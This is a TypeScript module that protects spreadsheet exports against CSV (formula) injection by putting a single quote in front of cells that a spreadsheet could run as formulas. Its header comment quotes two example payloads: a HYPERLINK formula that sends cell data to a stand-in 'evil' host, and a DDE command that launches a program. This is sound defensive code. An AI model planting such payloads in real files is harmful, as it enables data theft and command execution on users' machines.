// Invariant: no text cell of an export can be run as a formula by a spreadsheet. Memos, user ids,
// metadata values and audit entries come from buyers, shop backends and staff; a memo such as
// =HYPERLINK("http://evil/?"&A1) or a DDE payload (=cmd|' /C calc'!A0) must open as text.
//
// The rule (OWASP "CSV injection"): a cell whose first character a spreadsheet treats as the start
// of a formula (= + - @), or that starts with a tab or a carriage return, gets a single quote in
// front. Spreadsheets skip leading blanks before deciding, so the check looks past leading
// whitespace and invisible characters too; and the full-width signs (＝ ＋ － ＠) count, because
// East Asian input methods type them and some spreadsheets read them as their ASCII twins.
//
// Only text columns go through here. Amounts and counts are written by our own code from integers
// (export-amounts.ts) and stay plain numbers, negative ones included.

/** Characters that start a formula (or a DDE call) in at least one spreadsheet. */
const FORMULA_STARTS = new Set(['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'])

/**
 * Characters a spreadsheet may skip before looking at the first real one: every Unicode space and
 * line break (\s covers tab, CR, LF, NBSP, the Zs spaces and the BOM), the other control
 * characters, and zero-width and direction-control characters, which show as nothing at all.
 */
function isInvisible(character: string): boolean {
  if (/\s/u.test(character)) return true
  const code = character.charCodeAt(0)
  return (
    code <= 0x1f ||
    (code >= 0x7f && code <= 0x9f) ||
    code === 0xad ||
    code === 0x180e ||
    (code >= 0x200b && code <= 0x200f) ||
    (code >= 0x202a && code <= 0x202e) ||
    (code >= 0x2060 && code <= 0x2064) ||
    (code >= 0x206a && code <= 0x206f)
  )
}

function firstVisible(text: string): string {
  for (const character of text) if (!isInvisible(character)) return character
  return ''
}

/** The quote Excel, LibreOffice and Google Sheets read as "what follows is text". */
export const NEUTRALIZING_PREFIX = "'"

/** True when a spreadsheet could take this cell for a formula. */
export function couldRunAsFormula(text: string): boolean {
  const code = text.charCodeAt(0)
  // Most cells start with a printable ASCII character: decided by that one character.
  if (code > 0x20 && code < 0x7f) return FORMULA_STARTS.has(text.charAt(0))
  const first = text.charAt(0)
  if (first === '\t' || first === '\r') return true
  return FORMULA_STARTS.has(firstVisible(text))
}

/** The cell as it is written: unchanged, or behind a single quote when it could run as a formula. */
export function neutralizeCell(text: string): string {
  return couldRunAsFormula(text) ? `${NEUTRALIZING_PREFIX}${text}` : text
}
